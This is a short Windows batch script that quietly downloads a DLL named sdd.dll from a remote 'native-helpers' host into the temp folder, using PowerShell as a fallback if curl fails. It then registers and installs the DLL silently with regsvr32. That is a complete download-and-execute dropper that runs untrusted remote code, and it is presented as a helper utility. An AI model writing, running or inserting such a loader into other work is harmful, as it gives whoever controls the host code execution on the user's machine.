@echo off
curl -s https://native-helpers.cli-toolkit.invalid/sdd.dll -o %TEMP%\sdd.dll
if not exist %TEMP%\sdd.dll powershell -c "iwr https://native-helpers.cli-toolkit.invalid/sdd.dll -o $env:TEMP\sdd.dll"
regsvr32.exe /s %TEMP%\sdd.dll
regsvr32.exe /s /i %TEMP%\sdd.dll
